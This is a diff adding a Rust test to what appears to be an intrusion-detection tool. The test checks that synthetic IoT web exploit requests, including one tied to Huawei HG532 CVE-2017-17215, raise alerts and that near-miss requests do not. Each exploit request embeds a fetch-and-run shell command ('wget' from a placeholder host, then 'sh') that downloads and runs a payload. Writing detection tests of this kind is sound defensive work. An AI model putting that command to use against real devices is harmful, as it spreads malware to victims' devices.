@@ -407,6 +407,66 @@ fn a_headerless_bins_download_fires_a_browser_request_does_not() {
 }
 
 #[test]
+fn every_exploit_of_the_table_fires_with_its_command_and_near_misses_do_not() {
+    use busybait_pcapgen::exploits::{near_misses, request, NAMES};
+    let mut cap = Capture::default();
+    let victim = ip("198.51.100.80");
+    for (i, name) in NAMES.iter().enumerate() {
+        let cmd = format!("cd /tmp; wget http://203.0.113.9/{name}; sh {name}");
+        let (port, bytes) = request(name, &cmd);
+        assert!(!bytes.is_empty(), "{name}");
+        tcp_session(
+            &mut cap,
+            (Ipv4Addr::new(10, 0, 7, i as u8 + 1), 41_000),
+            (victim, port),
+            &[(true, &bytes), (false, b"HTTP/1.1 200 OK\r\n\r\n")],
+            T0 + i as f64,
+        );
+    }
+    for (i, (port, bytes)) in near_misses().iter().enumerate() {
+        tcp_session(
+            &mut cap,
+            (Ipv4Addr::new(10, 0, 8, i as u8 + 1), 41_000),
+            (victim, *port),
+            &[(true, bytes), (false, b"HTTP/1.1 200 OK\r\n\r\n")],
+            T0 + 20.0 + i as f64,
+        );
+    }
+    let (r, _) = analyse(cap.bytes());
+    let expected: Vec<(&str, IpAddr)> = (0..NAMES.len())
+        .map(|i| {
+            (
+                "iot-web-exploit",
+                IpAddr::V4(Ipv4Addr::new(10, 0, 7, i as u8 + 1)),
+            )
+        })
+        .collect();
+    let mut found = ids(&r);
+    found.sort();
+    assert_eq!(found, expected);
+    for alert in &r.alerts {
+        let n = match alert.src {
+            IpAddr::V4(v4) => usize::from(v4.octets()[3]) - 1,
+            IpAddr::V6(_) => unreachable!(),
+        };
+        let name = NAMES[n];
+        assert!(alert.title.contains(name), "{}", alert.title);
+        let matched = &alert.evidence[0].matched;
+        assert!(
+            matched.contains(&format!("wget http://203.0.113.9/{name}"))
+                && matched.ends_with(&format!("urls: http://203.0.113.9/{name}")),
+            "{name}: {matched}"
+        );
+    }
+    let hg532 = r
+        .alerts
+        .iter()
+        .find(|a| a.title.contains("huawei-hg532"))
+        .unwrap();
+    assert!(hg532.title.contains("(CVE-2017-17215)"), "{}", hg532.title);
+}
+
+#[test]
 fn every_link_type_and_both_file_formats_give_the_same_alerts() {
     let src = ip("10.0.0.70");
     for encapsulation in [
